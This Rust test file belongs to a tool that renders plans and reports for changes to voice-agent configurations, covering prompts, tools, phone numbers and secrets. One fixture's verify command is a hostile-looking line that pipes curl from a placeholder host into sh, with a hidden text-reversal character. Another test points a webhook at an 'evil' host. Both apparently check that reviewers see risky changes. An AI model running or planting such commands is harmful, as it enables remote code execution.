//! One case for each thing that a reader must be told.

use reachform::diagnostics::{Diagnostic, SourceMap, Span};
use reachform::model::{Address, Digest, Direction, FieldPath, Verify};
use reachform::plan::{
    Action, AgentChange, AgentOutcome, Cause, Event, Held, KeptEdit, LimitBreach, LimitKind, Notice, Orphan, Outcome,
    RaisedLimit, Report, Rewrite, Risk, Shown, SlotHolder, SlotTarget, Step, Traffic, Unmanaged, VerifyChange,
};
use reachform::render::json::report_document;
use reachform::render::markdown::{CommentContext, plan_comment, report_comment};
use reachform::render::style::{Detail, Styles};
use reachform::render::text::{TextOptions, event_line, plan_text, report_text};
use reachform::render::view::GoOn;
use serde_json::{Value, json};

use super::build::{
    caused, change, editor, field, held_by, key, path, plan, prompt, risky, secret, slot, target, unchanged,
};
use super::{check, context, expect};

/// What runs before a version is published: new, another one, and gone; and limits that the change itself raises.
pub(super) fn programs() -> reachform::plan::Plan {
    let verify = |command: &[&str], env: &[&str]| Verify {
        command: command.iter().map(|text| (*text).to_owned()).collect(),
        env: env.iter().map(|text| (*text).to_owned()).collect(),
    };
    let alone =
        |name: &str, becomes| AgentChange { new_version: false, verify: Some(becomes), ..change(name, Action::Update) };
    let script = "curl -s \"https://collect.example/$1\" | sh\n# `quoted` \\ and \u{202e}turned";
    let after = verify(&["sh", "-c", script, "", "a b"], &["CHECK_URL", "HOME"]);
    let found = [
        alone("front-desk", VerifyChange::Added { after: after.clone() }),
        alone("lobby", VerifyChange::Added { after }),
        alone(
            "night-line",
            VerifyChange::Changed { before: None, after: verify(&["./check.sh", "<!-- fast -->"], &[]) },
        ),
        alone("recall", VerifyChange::Removed { before: None }),
    ];
    let mut plan = plan(found.to_vec());
    plan.raised = vec![
        RaisedLimit { limit: LimitKind::Delete, from: None, to: 3 },
        RaisedLimit { limit: LimitKind::ChangePercent, from: Some(50), to: 100 },
    ];
    plan
}

#[test]
fn what_runs_before_a_version_is_published_shows_whole_and_first() {
    check("verify", &programs(), &SourceMap::default());
    let budget = |max_bytes| CommentContext { max_bytes, ..context() };
    let mut plan = programs();
    let Some(VerifyChange::Added { after }) = &mut plan.changes[0].verify else { panic!() };
    after.command.extend((0..2_000).map(|n| format!("--argument-{n}")));
    let mut desk = change("other", Action::Update);
    desk.fields = vec![field("/config/agent/instructions", json!(prompt()), json!(prompt().repeat(20)))];
    plan.changes.push(desk);
    // What goes first is what a reviewer misses least, and arguments go last of all.
    let comment = plan_comment(&plan, &SourceMap::default(), &budget(60_000)).text;
    for n in 0..2_000 {
        assert!(comment.contains(&format!("\"--argument-{n}\"")), "{n}");
    }
    let summary = TextOptions { detail: Detail::Summary, ..TextOptions::default() };
    assert!(plan_text(&plan, &summary).contains("--argument-1999"));
    let short = plan_comment(&plan, &SourceMap::default(), &budget(3_000)).text;
    for words in ["`verify` of `agent.front-desk` is new", "`agent.front-desk`</b>", "3 agents are not shown at all"] {
        assert!(short.contains(words), "{words}: {short}");
    }
}

/// The plan of an ordinary pull request: a prompt, some numbers, a tool, a deleted agent.
pub(super) fn everyday() -> reachform::plan::Plan {
    let before = prompt();
    let after = before
        .replace(
            "at most three slots. If none of them works, offer to take a message for the front desk.",
            "at most two slots. If neither works, offer a call back from the front desk the same day.",
        )
        .replace(
            "- Use `book_slot`",
            "- If a tool fails twice, say that the calendar is unavailable and take a message.\n- Use `book_slot`",
        )
        .replace("practice handbook, section 17,", "practice handbook, section 18,");
    let tools = |description: &str, more: bool| {
        let mut tools = vec![
            json!({"name": "check_slots", "description": description, "timeout": 20}),
            json!({"name": "book_slot", "timeout": 20}),
            json!({"name": "find_patient", "timeout": 20}),
        ];
        if more {
            tools.push(json!({"name": "refund_status", "timeout": 10}));
        }
        Value::Array(tools)
    };
    let mut desk = change("front-desk", Action::Update);
    desk.fields = vec![
        risky("the call is recorded from now on", field("/config/agent/recording", json!(false), json!(true))),
        field("/config/agent/stack/llm/temperature", json!(0.7), json!(0.4)),
        field("/config/agent/max_call_seconds", json!(600), json!(900)),
        field("/config/agent/stack/llm/model", json!("gpt-4o"), json!("gpt-5-mini")),
        field("/config/agent/greeting_delay", json!(2), Value::Null),
        field(
            "/config/agent/tools",
            tools(
                "Finds free appointments for one dentist in the next seven days and returns at most five of them.",
                false,
            ),
            tools(
                "Finds free appointments for one dentist in the next ten days and returns at most five of them.",
                true,
            ),
        ),
        field("/config/agent/instructions", json!(before), json!(after)),
    ];
    desk.numbers = vec![
        reachform::plan::SlotChange {
            follows: true,
            ..slot(
                "+15551234567",
                Direction::Inbound,
                held_by("front-desk", 12),
                SlotTarget::NewVersion { key: key("front-desk") },
            )
        },
        reachform::plan::SlotChange {
            follows: true,
            ..slot(
                "+15551234567",
                Direction::Outbound,
                held_by("front-desk", 12),
                SlotTarget::NewVersion { key: key("front-desk") },
            )
        },
    ];
    desk.kept = vec![KeptEdit {
        path: path("/config/agent/stack/tts/speed"),
        before: Shown::Value(json!(1.0)),
        after: Shown::Value(json!(1.1)),
    }];
    desk.steps = vec![Step::WriteIntent, Step::CreateVersion { base: 12 }, Step::PutConfig, Step::ReadBack];
    let mut legacy = change("legacy-ivr", Action::Delete);
    legacy.base_version = Some(4);
    legacy.numbers = vec![reachform::plan::SlotChange {
        risk: Some(Risk("calls to this number will reach nobody".to_owned())),
        ..slot("+15559990000", Direction::Inbound, held_by("legacy-ivr", 4), SlotTarget::Empty)
    }];
    let mut plan = plan(vec![legacy, desk]);
    plan.unchanged = unchanged(17);
    plan.unmanaged = vec![Unmanaged { name: "Sales".to_owned(), agent_id: "ag_s".to_owned(), owner: None }];
    plan
}

#[test]
fn an_everyday_plan() {
    let plan = everyday();
    check("everyday", &plan, &SourceMap::default());
    let full = plan_text(&plan, &TextOptions { width: 120, detail: Detail::Full, ..TextOptions::default() });
    expect("everyday", "plan-120-full.txt", &full);
    let summary = plan_text(&plan, &TextOptions { detail: Detail::Summary, ..TextOptions::default() });
    expect("everyday", "plan-80-summary.txt", &summary);
}

#[test]
fn colours_change_no_word() {
    let plan = everyday();
    let options = TextOptions { styles: Styles::colored(), detail: Detail::Summary, ..TextOptions::default() };
    let colored = plan_text(&plan, &options);
    let plain = plan_text(&plan, &TextOptions { styles: Styles::plain(), ..options });
    let mut stripped = String::new();
    let mut inside = false;
    for c in colored.chars() {
        match c {
            '\u{1b}' => inside = true,
            'm' if inside => inside = false,
            c if !inside => stripped.push(c),
            _ => {}
        }
    }
    assert!(colored.contains("\u{1b}["));
    assert_eq!(stripped, plain);
}

#[test]
fn conflicts_and_drift_say_who_and_show_all_values() {
    let text = prompt();
    let mut desk = change("front-desk", Action::Update);
    desk.live_editor = Some(editor());
    desk.held = Some(Held::Conflict);
    desk.fields = vec![
        caused(
            Cause::Conflict,
            Some(json!("gpt-4o")),
            field("/config/agent/stack/llm/model", json!("gpt-4.1"), json!("gpt-5-mini")),
        ),
        caused(
            Cause::Conflict,
            None,
            field(
                "/config/agent/instructions",
                json!(text.replace("friendly, brief", "friendly, chatty")),
                json!(text.replace("call 911 at once", "call 911 right now")),
            ),
        ),
        caused(Cause::Drift, Some(json!(1.0)), field("/config/agent/stack/tts/speed", json!(1.2), json!(1.0))),
    ];
    let mut sales = change("sales", Action::Update);
    sales.live_editor = Some(editor());
    sales.fields = vec![
        caused(
            Cause::Drift,
            Some(json!("https://hooks.example.com/a")),
            risky(
                "calls are sent to another address",
                field(
                    "/config/agent/webhook",
                    json!("https://evil.example.com/b"),
                    json!("https://hooks.example.com/a"),
                ),
            ),
        ),
        caused(Cause::Drift, None, field("/active", json!(false), json!(true))),
    ];
    let mut rolled = change("triage", Action::Update);
    rolled.held = Some(Held::Rollback { from: 14, to: 11 });
    rolled.fields = vec![caused(Cause::Rollback, None, field("/config/agent/max_tool_steps", json!(3), json!(5)))];
    check("conflict", &plan(vec![desk, rolled, sales]), &SourceMap::default());
}

#[test]
fn a_create_shows_the_beginning_of_its_prompt() {
    let mut desk = change("front-desk", Action::Create);
    desk.name = "Riverside Dental Scheduler".to_owned();
    desk.fields = vec![
        field("/name", Value::Null, json!("Riverside Dental Scheduler")),
        field("/active", Value::Null, json!(true)),
        field("/config/agent/type", Value::Null, json!("static_prompt")),
        field("/config/agent/stack/llm/temperature", Value::Null, json!(0.4)),
        secret("/config/agent/stack/llm/api_key", Shown::Absent, Shown::Secret),
        field(
            "/config/agent/tools",
            Value::Null,
            json!([{"name": "check_slots", "timeout": 20}, {"name": "book_slot"}]),
        ),
        field("/config/agent/metadata", Value::Null, json!({})),
        field("/config/agent/instructions", Value::Null, json!(prompt())),
    ];
    desk.numbers = vec![slot(
        "+15551234567",
        Direction::Inbound,
        SlotHolder::Empty,
        SlotTarget::NewVersion { key: key("front-desk") },
    )];
    check("create", &plan(vec![desk]), &SourceMap::default());
}

#[test]
fn numbers_that_move_name_both_agents() {
    let mut desk = change("front-desk", Action::Update);
    let to = || SlotTarget::NewVersion { key: key("front-desk") };
    let risk = |why: &str, slot| reachform::plan::SlotChange { risk: Some(Risk(why.to_owned())), ..slot };
    desk.numbers = vec![
        slot("+15551234567", Direction::Inbound, held_by("legacy-ivr", 3), to()),
        risk(
            "it is taken from an agent that this project does not manage",
            slot(
                "+15557654321",
                Direction::Inbound,
                SlotHolder::Agent {
                    agent_id: "ag_77".to_owned(),
                    name: "Summer campaign".to_owned(),
                    key: None,
                    version: 2,
                },
                to(),
            ),
        ),
        reachform::plan::SlotChange {
            cause: Cause::Drift,
            ..slot("+15550001111", Direction::Outbound, SlotHolder::Unknown { version_id: "ver_9".to_owned() }, to())
        },
        reachform::plan::SlotChange {
            follows: true,
            ..slot("+15552223333", Direction::Inbound, held_by("front-desk", 12), to())
        },
    ];
    let mut legacy = change("legacy-ivr", Action::Update);
    legacy.new_version = false;
    legacy.numbers = vec![slot("+15558889999", Direction::Outbound, held_by("legacy-ivr", 3), SlotTarget::Empty)];
    check("numbers", &plan(vec![desk, legacy]), &SourceMap::default());
}

#[test]
fn nothing_to_do_says_so() {
    let mut plan = plan(Vec::new());
    plan.unchanged = unchanged(3);
    plan.unchanged[1].kept = vec![KeptEdit {
        path: path("/config/agent/stack/tts/speed"),
        before: Shown::Absent,
        after: Shown::Value(json!(1.1)),
    }];
    check("empty", &plan, &SourceMap::default());
}

#[test]
fn secrets_adoptions_and_moves_are_told() {
    let mut desk = change("front-desk", Action::Update);
    desk.moved_from = Some(key("reception"));
    desk.adopts = true;
    desk.fields = vec![
        secret("/config/agent/stack/llm/api_key", Shown::Secret, Shown::Secret),
        secret("/config/agent/stack/tts/token", Shown::Absent, Shown::SecretUnchecked),
        secret("/config/agent/old_token", Shown::Secret, Shown::Absent),
        secret("/config/agent/instructions", Shown::Value(json!("Hello.")), Shown::AtApply),
        field(
            "/config/agent/headers",
            json!([{"name": "Authorization", "value": "(secret)"}]),
            json!([{"name": "Authorization", "value": "(secret)"}]),
        ),
        field(
            "/config/agent/fallbacks",
            json!(["openai", "anthropic", "groq"]),
            json!(["anthropic", "openai", "groq"]),
        ),
        field(
            "/config/agent/voice",
            json!({"id": "v1", "pace": {"wpm": 150}}),
            json!({"id": "v2", "pace": {"wpm": 140, "gap": 2}}),
        ),
        field(
            "/config/agent/voicemail",
            json!("Please leave a message.  We call back."),
            json!("Please leave a message. We call back.\n"),
        ),
    ];
    let adopted = change("sales", Action::Adopt);
    check("secrets", &plan(vec![desk, adopted]), &SourceMap::default());
}

#[test]
fn what_stands_in_the_way_is_said_first() {
    let mut sources = SourceMap::default();
    let file = sources.add("agents/front-desk.yaml", "key: front-desk\nnumbers: []\n");
    let mut plan = plan(vec![change("old-desk", Action::Delete)]);
    plan.complete = false;
    plan.targeted = true;
    plan.diagnostics = vec![
        Diagnostic::warning("unknown-property", "the schema does not know `voise`"),
        Diagnostic::error("unknown-field", "no such field: `numbers`")
            .span(Span::new(file, 16..23))
            .hint("did you mean `phone_numbers`?"),
    ];
    plan.breaches = vec![LimitBreach {
        message: "1 agent would be deleted, and the limit is 0".to_owned(),
        flag: "--max-delete 1".to_owned(),
    }];
    plan.orphans = vec![
        Orphan {
            key: key("night-shift"),
            agent_id: "ag_9".to_owned(),
            name: "Night shift".to_owned(),
            protect: true,
            kept_because: Some("its stamp protects it".to_owned()),
        },
        Orphan {
            key: key("xmas"),
            agent_id: "ag_10".to_owned(),
            name: "Christmas".to_owned(),
            protect: false,
            kept_because: None,
        },
    ];
    plan.notices = vec![Notice {
        address: Some(Address(key("front-desk"))),
        code: "stamp-behind",
        message: "its last apply was not finished".to_owned(),
    }];
    check("incomplete", &plan, &sources);
}

fn outcome(name: &str, outcome: Outcome) -> AgentOutcome {
    AgentOutcome {
        address: Address(key(name)),
        key: key(name),
        name: name.to_owned(),
        agent_id: Some(format!("ag_{name}")),
        action: Action::Update,
        outcome,
        version: Some(12),
        draft: None,
        step: None,
        causes: Vec::new(),
        hints: Vec::new(),
        by_hand: false,
        rewritten: Vec::new(),
        left_behind: Vec::new(),
        milliseconds: 1840,
    }
}

fn report() -> Report {
    let mut done = outcome("front-desk", Outcome::Applied);
    done.version = Some(13);
    done.rewritten = vec![
        Rewrite {
            path: path("/config/agent/voicemail"),
            sent: Shown::Value(json!("leave_message")),
            read: Shown::Value(json!("hang_up")),
        },
        Rewrite { path: path("/config/agent/webhook_secret"), sent: Shown::Secret, read: Shown::Secret },
    ];
    let mut failed = outcome("sales", Outcome::Failed);
    failed.step = Some("write its config".to_owned());
    failed.draft = Some(14);
    failed.causes = vec![
        "PUT /core/agents/ag_sales/versions/14 was refused (422)".to_owned(),
        "`config.agent.stack.llm.temperature`: input should be less than or equal to 2".to_owned(),
    ];
    failed.hints = vec!["correct the value and apply again; the draft is used again".to_owned()];
    failed.left_behind = vec!["+15551234567 inbound".to_owned()];
    let mut skipped = outcome("old-desk", Outcome::Skipped);
    skipped.action = Action::Delete;
    skipped.milliseconds = 0;
    skipped.causes = vec!["deletes run only when nothing failed".to_owned()];
    let mut unknown = outcome("triage", Outcome::Unknown);
    unknown.step = Some("publish".to_owned());
    unknown.causes = vec!["POST …/publish: no answer within 30 s".to_owned()];
    unknown.version = None;
    Report {
        target: target(),
        plan_hash: Digest::of(&json!("report")),
        outcomes: vec![done, outcome("night", Outcome::AlreadyApplied), failed, unknown, skipped],
        wrote: true,
        interrupted: false,
        notices: vec![Notice { address: None, code: "slow", message: "the service asked for patience".to_owned() }],
        traffic: Traffic { requests: 61, retries: 3, throttled: 2, waited_milliseconds: 4200 },
    }
}

/// A report with a text from outside wherever one can stand.
pub(super) fn infested_report(text: &str) -> Report {
    let mut report = report();
    for entry in &mut report.outcomes {
        text.clone_into(&mut entry.name);
        entry.agent_id = Some(text.to_owned());
        entry.step = Some(text.to_owned());
        entry.causes = vec![text.to_owned()];
        entry.hints = vec![text.to_owned()];
        entry.left_behind = vec![text.to_owned()];
        let value = || Shown::Value(json!({text: [text]}));
        entry.rewritten = vec![Rewrite { path: FieldPath::of([text]), sent: value(), read: Shown::Value(json!(text)) }];
    }
    text.clone_into(&mut report.target.environment);
    text.clone_into(&mut report.notices[0].message);
    report
}

#[test]
fn an_apply_that_went_half_way_adds_up() {
    let report = report();
    let again = GoOn { what: "", copy: "reachform apply --env prod".to_owned() };
    let again = Some(&again);
    let text = report_text(&report, again, &TextOptions::default());
    expect("report", "report.txt", &text);
    expect(
        "report",
        "report.md",
        &report_comment(&report, again, Some((&everyday(), &SourceMap::default())), &context()).text,
    );
    expect("report", "report.json", &report_document(&report));
    assert!(text.contains("Apply: 1 applied, 1 already-applied, 1 failed, 1 unknown, 1 skipped. 5 changes."));
}

#[test]
fn events_are_one_line_each() {
    let address = Address(key("front-desk"));
    let events = [
        Event::Started { address: address.clone(), action: Action::Update },
        Event::Step { address, what: "publish".to_owned() },
        Event::Finished { outcome: Box::new(report().outcomes[0].clone()) },
        Event::Finished { outcome: Box::new(report().outcomes[2].clone()) },
        Event::Note { message: "waiting\nfor the lease".to_owned() },
    ];
    let lines: Vec<String> =
        events.iter().filter_map(|event| event_line(event, true, &TextOptions::default())).collect();
    assert_eq!(
        lines,
        [
            "agent.front-desk: update",
            "agent.front-desk: publish",
            "agent.front-desk: applied, v13 is live (1.8 s)",
            "agent.sales: failed, v12 is live (1.8 s)",
            "note: waiting⏎for the lease",
        ]
    );
    assert_eq!(event_line(&events[1], false, &TextOptions::default()), None);
}
